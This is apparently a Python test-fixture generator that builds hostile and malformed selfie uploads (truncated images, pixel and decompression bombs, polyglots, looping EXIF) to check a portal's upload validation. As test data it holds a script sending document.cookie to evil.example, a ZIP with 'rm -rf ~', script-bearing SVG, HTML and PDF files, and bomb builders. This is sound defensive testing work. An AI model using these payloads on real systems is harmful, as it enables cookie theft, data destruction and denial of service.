"""A corpus of hostile and awkward selfie uploads, each with the answer the
portal owes it.

Every case is made here from scratch or from the labelled sample photos of
``FACE_SAMPLES_DIR`` (default ``../shared/faces``; never in the repository):
broken files, files that are not photos, header bombs, animations, metadata
abuse, polyglots, and valid photos in every awkward encoding (CMYK, 16-bit,
HEIC, EXIF-rotated ...). A valid one carries a real face, so the portal must
accept it; a rejected one names the code of the error it must get
(``search.imaging.ImageError`` or the selfie checks of
``subjects.person.selfie``) and a fragment of the English sentence the person
reads.

Importable (``build_corpus(folder)``) and runnable::

    python tests/hostile/make_corpus.py OUTPUT_FOLDER

which writes the files and prints the table of cases. Needs only Pillow,
numpy and pillow_heif (no Django settings: the folder is found by the same
rule as ``settings.FACE_SAMPLES_DIR``, ``portal.samples.configured_dir``).
"""

from __future__ import annotations

import io
import mimetypes
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

import numpy as np
from PIL import Image, ImageDraw

from portal import samples

FACES_DIR = samples.configured_dir() or samples.DEFAULT_DIR

#: The selfie size limit of the portal's default settings.
MAX_BYTES = 10 * 1024 * 1024
ORIENTATION = 0x0112
USER_COMMENT = 0x9286
EXIF_IFD = 0x8769
GPS_IFD = 0x8825

#: Fragments of the sentences a person reads, by error code (English).
MESSAGES = {
    "empty": "The file is empty. Please choose a photo and try again.",
    "too_large": "The file is too large: the limit is 10 MB.",
    "not_an_image": "This file is not a photo we can read.",
    "unsupported_format": "format are not accepted",
    "truncated": "The image file is incomplete or damaged.",
    "too_many_pixels": "The image has too many pixels",
    "too_small": "The image is too small",
    "animated": "Animated images are not accepted.",
    "no_face": "We could not find a face in this photo.",
    "several_faces": "This photo shows 2 faces.",
    "face_too_small": "Your face is too small in this photo",
}

#: Codes that :func:`search.imaging.load_image` gives (the rest are the
#: selfie checks after a face detector has looked at the pixels).
IMAGE_CODES = frozenset(MESSAGES) - {"no_face", "several_faces", "face_too_small"}


@dataclass(frozen=True)
class Case:
    """One upload: ``code`` is None when the portal must accept it."""

    name: str
    data: bytes
    code: str | None
    message: str
    about: str

    @property
    def accepted(self) -> bool:
        return self.code is None

    @property
    def content_type(self) -> str:
        guessed, _ = mimetypes.guess_type(self.name)
        return guessed or "application/octet-stream"

    @property
    def expected(self) -> str:
        return "accepted (302)" if self.accepted else f"400 {self.code}"

    def __repr__(self) -> str:  # keeps pytest ids and failures readable
        return f"Case({self.name!r}, {self.expected}, {len(self.data)} bytes)"


def _accept(name: str, data: bytes, about: str) -> Case:
    return Case(name, data, None, "", about)


def _reject(name: str, data: bytes, code: str, about: str, message: str | None = None) -> Case:
    return Case(name, data, code, message or MESSAGES[code], about)


# --- encoders and raw file formats ---------------------------------------------------


def encode(image: Image.Image, fmt: str, **params) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **params)
    return buffer.getvalue()


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    crc = zlib.crc32(kind + payload) & 0xFFFFFFFF
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc)


def png_file(width: int, height: int, *, bit_depth: int, colour_type: int, rows,
             extra_chunks: bytes = b"") -> bytes:
    """A PNG written chunk by chunk from an iterable of unfiltered scanlines,
    compressed as they stream past (a bomb never exists in memory)."""
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(b"\x00" + row) for row in rows]
    idat = b"".join(parts) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + extra_chunks
            + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b""))


def bmp_header(width: int, height: int, bits: int = 24, pixel_bytes: bytes = b"") -> bytes:
    """A Windows BMP whose header announces ``width`` x ``height`` pixels."""
    offset = 14 + 40
    row = (width * bits // 8 + 3) // 4 * 4
    declared = row * height
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, bits, 0, declared & 0xFFFFFFFF,
                       2835, 2835, 0, 0)
    head = struct.pack("<2sIHHI", b"BM", (offset + declared) & 0xFFFFFFFF, 0, 0, offset)
    return head + info + pixel_bytes


def jpeg_segment(marker: int, payload: bytes) -> bytes:
    if len(payload) > 65533:
        raise ValueError("a JPEG segment holds at most 65533 bytes")
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def after_soi(jpeg: bytes, segments: bytes) -> bytes:
    """``segments`` inserted right after a JPEG's start-of-image marker."""
    assert jpeg[:2] == b"\xff\xd8"
    return jpeg[:2] + segments + jpeg[2:]


def with_sof_size(jpeg: bytes, width: int, height: int) -> bytes:
    """The same JPEG with the frame header claiming another size."""
    data = bytearray(jpeg)
    position = 2
    while position < len(data):
        marker = data[position + 1]
        length = struct.unpack(">H", data[position + 2: position + 4])[0]
        if marker in (0xC0, 0xC1, 0xC2):
            data[position + 5: position + 9] = struct.pack(">HH", height, width)
            return bytes(data)
        position += 2 + length
    raise ValueError("no frame header found")


def tiff_exif(entries: list[tuple[int, int, int, bytes]], *, next_ifd: int = 0) -> bytes:
    """Raw little-endian EXIF (``Exif\\0\\0`` + TIFF) with one IFD whose
    entries are ``(tag, type, count, value-or-data)``; data longer than four
    bytes is stored after the IFD."""
    ifd_offset = 8
    data_offset = ifd_offset + 2 + 12 * len(entries) + 4
    table, blobs = b"", b""
    for tag, kind, count, value in entries:
        if len(value) <= 4:
            table += struct.pack("<HHI", tag, kind, count) + value.ljust(4, b"\0")
        else:
            table += struct.pack("<HHII", tag, kind, count, data_offset + len(blobs))
            blobs += value
    body = struct.pack("<H", len(entries)) + table + struct.pack("<I", next_ifd) + blobs
    return b"Exif\0\0" + b"II*\0" + struct.pack("<I", ifd_offset) + body


def zip_archive(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, payload in files.items():
            # A fixed date: the same corpus on every run.
            archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), payload,
                             compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def gif_with_screen(width: int, height: int) -> bytes:
    """A GIF whose logical screen is ``width`` x ``height`` holding one 1x1 image."""
    header = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0)
    palette = b"\x00\x00\x00\xff\xff\xff"
    image = b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
    pixels = b"\x02\x02\x44\x01\x00"  # LZW minimum code size 2, one pixel
    return header + palette + image + pixels + b";"


def webp_vp8x_canvas(width: int, height: int, frame: bytes) -> bytes:
    """A still WebP whose extended header announces a ``width`` x ``height``
    canvas around a small lossy frame taken from ``frame`` (a simple WebP)."""
    assert frame[:4] == b"RIFF" and frame[8:12] == b"WEBP"
    vp8 = frame[12:]
    flags = b"\x00\x00\x00\x00"
    size = struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    vp8x = b"VP8X" + struct.pack("<I", 10) + flags + size
    body = b"WEBP" + vp8x + vp8
    return b"RIFF" + struct.pack("<I", len(body)) + body


# --- pictures ----------------------------------------------------------------------


def face_photo() -> Image.Image:
    """obama_1.jpg at half size: one frontal face about 134 px wide."""
    with Image.open(FACES_DIR / "obama_1.jpg") as image:
        return image.convert("RGB").resize((image.width // 2, image.height // 2),
                                           Image.Resampling.LANCZOS)


def no_face_photo(width: int = 480, height: int = 360) -> Image.Image:
    """A sunset-coloured wall: a photo, but of no one."""
    x = np.linspace(0, 1, width)[None, :]
    y = np.linspace(0, 1, height)[:, None]
    red = 255 * (0.6 + 0.4 * y) * np.ones_like(x)
    green = 255 * (0.3 + 0.5 * x * y)
    blue = 255 * (0.8 - 0.6 * y) * np.ones_like(x)
    array = np.clip(np.dstack([red, green, blue]), 0, 255).astype(np.uint8)
    image = Image.fromarray(array)
    ImageDraw.Draw(image).rectangle((width // 3, height // 3, width // 2, height // 2),
                                    fill=(40, 60, 90))
    return image


def frames(count: int, size: int = 96) -> list[Image.Image]:
    colours = ["red", "green", "blue", "white", "black"]
    return [Image.new("RGB", (size, size), colours[i % len(colours)]) for i in range(count)]


def exif_bytes(orientation: int) -> bytes:
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    return exif.tobytes()


def with_alpha(image: Image.Image) -> Image.Image:
    """The photo cut out in an ellipse: fully transparent corners."""
    mask = Image.new("L", image.size, 0)
    inset_x, inset_y = image.width // 10, image.height // 20
    ImageDraw.Draw(mask).ellipse((inset_x, inset_y, image.width - inset_x,
                                  image.height - inset_y), fill=255)
    rgba = image.convert("RGBA")
    rgba.putalpha(mask)
    return rgba


def rgb48_png(image: Image.Image) -> bytes:
    """16 bits per channel RGB, written by hand (Pillow does not write it)."""
    array = np.asarray(image, dtype=np.uint16) * 257
    big_endian = array.astype(">u2")
    rows = (big_endian[y].tobytes() for y in range(big_endian.shape[0]))
    return png_file(image.width, image.height, bit_depth=16, colour_type=2, rows=rows)


def grey16_png(image: Image.Image) -> bytes:
    values = np.asarray(image.convert("L"), dtype=np.uint16) * 257
    return encode(Image.fromarray(values), "PNG")


def heic(image: Image.Image) -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    return encode(image, "HEIF", quality=85)


# --- the corpus --------------------------------------------------------------------


def build_corpus(folder: str | Path | None = None) -> list[Case]:
    """Make every case; write each into ``folder`` (when given) under its name."""
    face = face_photo()
    face_jpeg = encode(face, "JPEG", quality=90)
    wall = no_face_photo()
    wall_jpeg = encode(wall, "JPEG", quality=85)
    wall_png = encode(wall, "PNG")
    noisy_png = encode(Image.fromarray(np.random.default_rng(8).integers(
        0, 256, (200, 300, 3), dtype=np.uint8)), "PNG")
    face_heic = heic(face)
    face_webp = encode(face, "WEBP", quality=85)
    tiny_webp = encode(wall.resize((64, 48)), "WEBP", quality=60)
    evil_zip = zip_archive({"index.html": b"<script>alert(document.cookie)</script>",
                            "run.sh": b"#!/bin/sh\nrm -rf ~\n"})
    script = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"

    cases: list[Case] = []
    add = cases.append

    # -- broken or cut-off photos
    add(_reject("truncated.jpg", face_jpeg[: len(face_jpeg) // 2], "truncated",
                "a JPEG cut off halfway"))
    add(_reject("truncated.png", noisy_png[: len(noisy_png) // 2], "truncated",
                "a PNG cut off halfway"))
    add(_reject("truncated.webp", face_webp[: len(face_webp) // 2], "truncated",
                "a WebP cut off halfway"))
    add(_reject("truncated.heic", face_heic[: len(face_heic) // 2], "truncated",
                "a HEIC cut off halfway"))
    add(_reject("soi_eoi_only.jpg", b"\xff\xd8\xff\xd9", "truncated",
                "a JPEG with only its start and end markers"))
    bad_crc = bytearray(wall_png)
    bad_crc[bad_crc.index(b"IDAT") + 40] ^= 0x55
    add(_reject("bad_crc.png", bytes(bad_crc), "truncated",
                "a PNG whose image data fails its CRC"))
    add(_reject("heif_brand_garbage.heic",
                b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(range(256)) * 8, "truncated",
                "a HEIC file type box followed by garbage"))
    ztxt = png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"\0" * (64 * 1024 * 1024), 9))
    add(_reject("ztxt_bomb.png", png_file(
        64, 64, bit_depth=8, colour_type=0, rows=(bytes(64) for _ in range(64)),
        extra_chunks=ztxt), "truncated",
        "a PNG whose compressed text chunk inflates to 64 MB (Pillow refuses it)"))

    # -- empty, too large
    add(_reject("zero_bytes.jpg", b"", "empty", "an empty file"))
    add(_reject("over_10_mb.jpg", face_jpeg + b"\0" * (MAX_BYTES + 1 - len(face_jpeg)),
                "too_large", "a face JPEG padded to one byte over 10 MB"))

    # -- not photos at all
    add(_reject("text.jpg", b"Dear diary, today I uploaded a letter as a selfie.\n" * 30,
                "not_an_image", "plain text named .jpg"))
    svg = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="640" '
           b'height="480" onload="alert(1)"><rect width="640" height="480" fill="tan"/>'
           + script + b"</svg>")
    add(_reject("script.svg", svg, "not_an_image", "an SVG image with a script"))
    add(_reject("svg_named.jpg", svg, "not_an_image", "the same SVG named .jpg"))
    pdf = (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R "
           b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\n"
           b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n"
           b"<< /Root 1 0 R >>\n%%EOF\n")
    add(_reject("document.pdf", pdf, "not_an_image", "a PDF with JavaScript"))
    add(_reject("html_then_jpeg.jpg", b"<!DOCTYPE html><html><body>" + script
                + b"<!--" + face_jpeg + b"-->", "not_an_image",
                "an HTML page with a script that hides a JPEG in a comment"))
    add(_reject("archive.jpg", evil_zip, "not_an_image", "a ZIP archive named .jpg"))
    add(_reject("program.jpg", b"\x7fELF\x02\x01\x01\0" + bytes(56) + b"\x90" * 2000,
                "not_an_image", "an ELF executable named .jpg"))
    add(_reject("random.heic", np.random.default_rng(3).bytes(4096), "not_an_image",
                "4 KB of random bytes named .heic"))

    # -- images in formats the portal does not take
    add(_reject("still.gif", encode(wall, "GIF"), "unsupported_format",
                "a single-frame GIF", "Images in the GIF format are not accepted."))
    add(_reject("scan.tiff", encode(face, "TIFF"), "unsupported_format",
                "a TIFF (with a face)", "Images in the TIFF format are not accepted."))
    add(_reject("icon.ico", encode(wall.resize((64, 64)), "ICO"), "unsupported_format",
                "a Windows icon", "Images in the ICO format are not accepted."))

    # -- pixel bombs: tiny files whose headers claim huge images
    bomb_side = 30_000
    add(_reject("bomb_30000x30000.png", png_file(
        bomb_side, bomb_side, bit_depth=1, colour_type=0,
        rows=(bytes(bomb_side // 8) for _ in range(bomb_side))), "too_many_pixels",
        "a valid 30000 x 30000 PNG of zeros, about 110 kB on disk",
        "The image has too many pixels (900.0 megapixels; the limit is 40)."))
    add(_reject("bomb_30000x30000.bmp", bmp_header(bomb_side, bomb_side), "too_many_pixels",
                "a BMP header claiming 30000 x 30000 pixels, with no pixel data",
                "The image has too many pixels (900.0 megapixels; the limit is 40)."))
    add(_reject("bomb_8000x6000.bmp", bmp_header(8000, 6000), "too_many_pixels",
                "a BMP header claiming 48 megapixels (under Pillow's own limit, over ours)",
                "The image has too many pixels (48.0 megapixels; the limit is 40)."))
    add(_reject("bomb_sof_65500.jpg", with_sof_size(wall_jpeg, 65_500, 65_500),
                "too_many_pixels", "a JPEG whose frame header claims 65500 x 65500",
                "The image has too many pixels (4290.2 megapixels; the limit is 40)."))
    # A GIF never reaches Pillow's GIF parser (only the accepted formats'
    # parsers see an upload): refused for its format, by its signature.
    add(_reject("bomb_screen_65535.gif", gif_with_screen(65_535, 65_535), "unsupported_format",
                "a GIF whose logical screen is 65535 x 65535",
                "Images in the GIF format are not accepted."))
    add(_reject("bomb_canvas_16384.webp", webp_vp8x_canvas(16_384, 16_384, tiny_webp),
                "too_many_pixels", "a WebP whose extended header claims a 16384 x 16384 "
                "canvas around a 64 x 48 frame",
                "The image has too many pixels (268.4 megapixels; the limit is 40)."))

    # -- animations
    first, *rest = frames(3)
    add(_reject("animated.gif", encode(first, "GIF", save_all=True, append_images=rest,
                                       duration=100, loop=0), "unsupported_format",
                "a 3-frame GIF", "Images in the GIF format are not accepted."))
    add(_reject("animated.webp", encode(first, "WEBP", save_all=True, append_images=rest,
                                        duration=100, loop=0), "animated", "a 3-frame WebP"))
    add(_reject("animated.png", encode(first, "PNG", save_all=True, append_images=rest,
                                       duration=100), "animated", "a 3-frame APNG"))

    # -- sizes
    add(_reject("one_pixel.png", encode(Image.new("RGB", (1, 1), "white"), "PNG"),
                "too_small", "a 1 x 1 PNG", "The image is too small (1 × 1 pixels)."))
    add(_reject("one_pixel.jpg", encode(Image.new("RGB", (1, 1), "white"), "JPEG"),
                "too_small", "a 1 x 1 JPEG", "The image is too small (1 × 1 pixels)."))
    add(_reject("strip_4000x20.png", encode(wall.resize((4000, 20)), "PNG"), "too_small",
                "a 4000 x 20 strip", "The image is too small (4000 × 20 pixels)."))

    # -- photos, but not of one face the portal can use
    add(_reject("no_face.jpg", wall_jpeg, "no_face", "a photo of a wall"))
    add(_reject("upside_down.jpg", encode(face.rotate(180), "JPEG", quality=90), "no_face",
                "the face photo turned 180 degrees in its pixels, with no EXIF to undo it: "
                "the detector finds no upright face"))
    add(_reject("group_two_people.jpg", (FACES_DIR / "group_two_people.jpg").read_bytes(),
                "several_faces", "two people (a photo of the sample set)"))
    with Image.open(FACES_DIR / "obama_1.jpg") as original:
        small = original.convert("RGB").resize((original.width // 4, original.height // 4),
                                               Image.Resampling.LANCZOS)
    add(_reject("tiny_face.jpg", encode(small, "JPEG", quality=90), "face_too_small",
                "obama_1 at quarter size: a face about 65 px wide, under the 80 px minimum"))
    add(_reject("jpeg_zip_polyglot.jpg", wall_jpeg + evil_zip, "no_face",
                "a JPEG that is also a ZIP (archive appended after the image), no face"))
    add(_reject("png_trailing_zip.png", wall_png + evil_zip, "no_face",
                "a PNG with a ZIP after its IEND chunk, no face"))
    add(_reject("flat_36mp.png", png_file(
        6000, 6000, bit_depth=8, colour_type=2,
        rows=(bytes(18000) for _ in range(6000))), "no_face",
        "a black 6000 x 6000 RGB PNG (36 MP, just under the limit; 108 MB decoded, "
        "about 100 kB on disk)"))

    # -- valid photos of a face in every awkward encoding: accepted
    add(_accept("cmyk.jpg", encode(face.convert("CMYK"), "JPEG", quality=90),
                "an Adobe CMYK JPEG"))
    add(_accept("grey16.png", grey16_png(face), "a 16-bit greyscale PNG"))
    add(_accept("rgb48.png", rgb48_png(face), "a 16-bit-per-channel RGB PNG"))
    add(_accept("face.heic", face_heic, "a HEIC photo"))
    add(_accept("face.webp", face_webp, "a lossy WebP photo"))
    add(_accept("face.bmp", encode(face, "BMP"), "a 24-bit BMP"))
    add(_accept("greyscale.jpg", encode(face.convert("L"), "JPEG", quality=90),
                "an 8-bit greyscale JPEG"))
    add(_accept("alpha.png", encode(with_alpha(face), "PNG"),
                "an RGBA PNG, transparent around an elliptical cut-out"))
    add(_accept("upside_down_exif3.jpg", encode(face.rotate(180), "JPEG", quality=90,
                                                exif=exif_bytes(3)),
                "the face turned 180 degrees in its pixels with EXIF orientation 3: "
                "the loader turns it upright"))
    add(_accept("portrait_exif6.jpg", encode(face.transpose(Image.Transpose.ROTATE_90),
                                             "JPEG", quality=90, exif=exif_bytes(6)),
                "a portrait photo stored as landscape with EXIF orientation 6"))
    add(_accept("jpeg_named.png", face_jpeg, "a JPEG named .png"))
    add(_accept("jpeg_zip_polyglot_face.jpg", face_jpeg + evil_zip,
                "a face JPEG that is also a ZIP: the image part is a valid photo; the "
                "bytes are never served and are deleted once embedded"))
    add(_accept("html_comment.jpg", after_soi(face_jpeg, jpeg_segment(
        0xFE, b"<html><body>" + script + b"</body></html>")),
        "a face JPEG with an HTML page and a script in its comment segment"))
    huge_comment = tiff_exif([
        (ORIENTATION, 3, 1, struct.pack("<H", 1)),
        (USER_COMMENT, 7, 60_000, b"ASCII\0\0\0" + b"A" * 59_992),
    ])
    add(_accept("huge_exif.jpg", encode(face, "JPEG", quality=90, exif=huge_comment),
                "a face JPEG with 60 kB of EXIF (a giant user comment)"))
    app_segments = b"".join(
        jpeg_segment(0xE2 + i % 13, b"JUNK" + bytes([i]) * 65_000) for i in range(120))
    add(_accept("many_app_segments.jpg", after_soi(face_jpeg, app_segments),
                "a face JPEG behind 120 application segments of 65 kB (7.8 MB of metadata)"))
    broken_exif = tiff_exif([
        (ORIENTATION, 3, 0x7FFFFFFF, struct.pack("<I", 0xFFFFFFF0)),  # count and offset lie
        (EXIF_IFD, 4, 1, struct.pack("<I", 8)),  # the EXIF sub-IFD is IFD0 again: a loop
        (USER_COMMENT, 7, 0x10000000, struct.pack("<I", 0x7FFFFFF0)),
    ], next_ifd=8)  # and the next IFD is IFD0 itself
    add(_accept("broken_exif.jpg", after_soi(face_jpeg, jpeg_segment(0xE1, broken_exif)),
                "a face JPEG whose EXIF lies about counts and offsets and loops onto itself"))
    looping_exif = tiff_exif([
        (ORIENTATION, 3, 1, struct.pack("<H", 3)),
        (EXIF_IFD, 4, 1, struct.pack("<I", 8)),  # both sub-IFDs point back at IFD0
        (GPS_IFD, 4, 1, struct.pack("<I", 8)),
    ], next_ifd=8)
    add(_accept("exif_loop_rotated.jpg", after_soi(
        encode(face.rotate(180), "JPEG", quality=90), jpeg_segment(0xE1, looping_exif)),
        "the upside-down face with a valid orientation 3 in an EXIF whose sub-IFDs and "
        "next IFD all point back at IFD0: turned upright, no endless loop"))
    add(_accept("orientation_99.jpg", encode(face, "JPEG", quality=90, exif=exif_bytes(99)),
                "a face JPEG with an EXIF orientation that does not exist (99): used as stored"))

    names = [case.name for case in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    if folder is not None:
        folder = Path(folder)
        folder.mkdir(parents=True, exist_ok=True)
        for case in cases:
            (folder / case.name).write_bytes(case.data)
    return cases


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print(f"usage: {sys.argv[0]} OUTPUT_FOLDER", file=sys.stderr)
        return 2
    sentence = samples.problem(FACES_DIR, needed_by="the corpus needs")
    if sentence:
        print(sentence, file=sys.stderr)
        return 2
    cases = build_corpus(argv[0])
    for case in cases:
        print(f"{case.name:32} {len(case.data):>10} B  {case.expected:24} {case.about}")
    accepted = sum(case.accepted for case in cases)
    print(f"{len(cases)} cases written to {argv[0]}: {accepted} to accept, "
          f"{len(cases) - accepted} to refuse.")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
